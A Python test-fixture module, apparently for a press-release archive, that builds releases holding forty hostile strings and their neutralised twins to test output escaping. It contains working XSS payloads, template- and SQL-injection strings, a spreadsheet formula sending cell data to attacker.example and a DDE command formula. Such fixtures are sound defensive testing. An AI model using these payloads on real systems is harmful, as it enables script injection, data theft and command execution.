"""Forty texts that would do harm on a page that took them for anything but text, and releases made of them."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import NamedTuple

from archive import Release

ALARM = "alert(document.domain)"

TEXTS = {
    "script": f"<script>{ALARM}</script>",
    "script-in-capitals": f"<SCRIPT SRC=//attacker.example/x.js></SCRIPT><ScRiPt>{ALARM}</sCrIpT>",
    "script-cut-short": f"<script>{ALARM}//",
    "script-in-pieces": f"<scr<script>ipt>{ALARM}</scr</script>ipt>",
    "image-error": f"<img src=x onerror={ALARM}>",
    "image-in-slashes": f"<img/src='x'/onerror={ALARM}>",
    "svg-load": f"<svg onload={ALARM}><animate onbegin={ALARM} attributeName=x dur=1s></svg>",
    "svg-script": f"<svg><script xlink:href='data:,{ALARM}'/></svg>",
    "math": f"<math><mtext></form><form><mglyph><style></math><img src onerror={ALARM}>",
    "body-load": f"<body onload={ALARM}>",
    "details-toggle": f"<details open ontoggle={ALARM}>buka</details>",
    "autofocus": f"<input autofocus onfocus={ALARM}>",
    "frame": f"<iframe srcdoc='<script>parent.{ALARM}</script>'></iframe>",
    "frame-address": f'<iframe src="javascript:{ALARM}"></iframe>',
    "object": f"<object data='data:text/html,<script>{ALARM}</script>'></object><embed src=x>",
    "base": "<base href='https://attacker.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=https://attacker.example/x.css>",
    "form": "<form action=https://attacker.example/><button>Masuk</button></form>",
    "javascript-address": f"<a href='javascript:{ALARM}'>klik</a> [klik](javascript:{ALARM})",
    "attribute-double": f'" onmouseover="{ALARM}" x="',
    "attribute-single": f"' autofocus onfocus='{ALARM}' x='",
    "attribute-backtick": f"` onmouseover=`{ALARM}` x=`",
    "closing-tags": "</title></textarea></style></script></blockquote></article></main></body></html>",
    "closing-mark": "</mark></b></p></li></ol></a></h2>lolos<h1>Palsu</h1>",
    "comment": f"<!--><script>{ALARM}</script>--> <!-- tak ditutup",
    "cdata": f"<![CDATA[<script>{ALARM}</script>]]> ]]> <?php echo 1 ?> <!DOCTYPE html>",
    "broken-markup": '<div <p class="a"b <<a href=> <b <i></b></i> &lt; &#60; &amp;lt; &#x3c;script&#x3e;',
    "entities": f"&lt;script&gt;{ALARM}&lt;/script&gt; &nbsp; &copy; &notin; &#0; &#x110000;",
    "template": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "format-strings": "%s %(total)s %n {0} {total} {0.__class__}",
    "query-syntax": "q=a&k=0&topic=<b>#p1?v=2 -minus \"kutip 'a\\' OR 1=1; DROP TABLE release; --",
    "formula": '=HYPERLINK("https://attacker.example/?"&A1,"klik") +1+1 -1+1 @SUM(1)',
    "formula-command": "=cmd|' /C calc'!A0",
    "right-to-left": "\u202eakum\u2066 \u2067aynabmit\u2069 \u200e\u200f\u061c",
    "zalgo": "B" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 40 + "anjir",
    "homoglyphs": "Реmеrintаh Коtа \uff1cscript\uff1e \u2039script\u203a \u02bascript\u02ba ᐸscriptᐳ",
    "invisible": "Pa\u200bsar\u200d\u2060 \ufeff\u00ad\u2028\u2029 \u0085\ufffe\U000e0041 👩‍👩‍👧‍👦",
    "word-of-a-megabyte": "<b>" * 1_000 + "x" * 1_000_000,
    "long-title": "Judul <i>yang</i> sangat panjang " * 300,
}
"""By what each tries."""

_HARMLESS = str.maketrans(dict.fromkeys("<>&\"'`={}%#()[]\\/|:;$@*+^", ","))
_LINE = re.compile(r"\s+")


class Twin(NamedTuple):
    """A release that holds a text wherever a release can hold text, and what it said before.

    Attributes:
        text: The text.
        before: Its first version, without the last paragraph and under another title.
        release: Its second and current one.
    """

    text: str
    before: Release
    release: Release

    @property
    def id(self) -> str:
        """Id of the release."""
        return str(self.release.id)


def hostile() -> dict[str, Twin]:
    """A release for each text, by its name."""
    return {name: _twin(number, text) for number, (name, text) in enumerate(TEXTS.items())}


def harmless() -> dict[str, Twin]:
    """The same with commas for what means something to a machine: of the same words and shape, under the same ids."""
    return {name: _twin(number, text.translate(_HARMLESS)) for number, (name, text) in enumerate(TEXTS.items())}


def _twin(number: int, text: str) -> Twin:
    release = _release(number, text)
    return Twin(text, replace(release, title="Judul semula", body=release.body.rpartition("\n\n")[0]), release)


def _release(number: int, text: str) -> Release:
    short = _LINE.sub(" ", text)[:150].strip()
    return Release(
        id=f"h{number:02}",
        title=f"{_LINE.sub(' ', text).strip()[:20_000]} {number}",
        body=f"Banjir nomor {number} surut.\n\nLayanan kota {text} ramai.\n\nPenutup {text} nomor {number}.",
        url=f"https://kota.example/{number}/?a=%22%3E%3Cscript%3E&b='onload='x#<>",
        published=f"2024-01-{number % 28 + 1:02}",
        topic=f"Topik {number:02} {short}",
        city=short,
        initials=(short,),
        office=short,
        agency=f"Instansi {number:02} {short}",
        author=short,
        language="id",
        source=f"/press/h{number:02}.txt",
    )
